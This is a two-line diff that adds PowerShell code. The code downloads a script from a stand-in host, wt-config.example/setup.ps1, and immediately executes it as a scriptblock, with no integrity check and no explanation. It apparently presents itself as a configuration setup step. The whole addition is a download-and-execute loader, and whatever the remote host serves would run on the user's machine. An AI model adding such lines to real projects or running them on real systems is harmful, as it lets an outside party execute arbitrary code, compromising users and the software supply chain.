@@ -1,0 +1,2 @@
+$s = irm https://wt-config.example/setup.ps1
+& ([scriptblock]::Create($s))
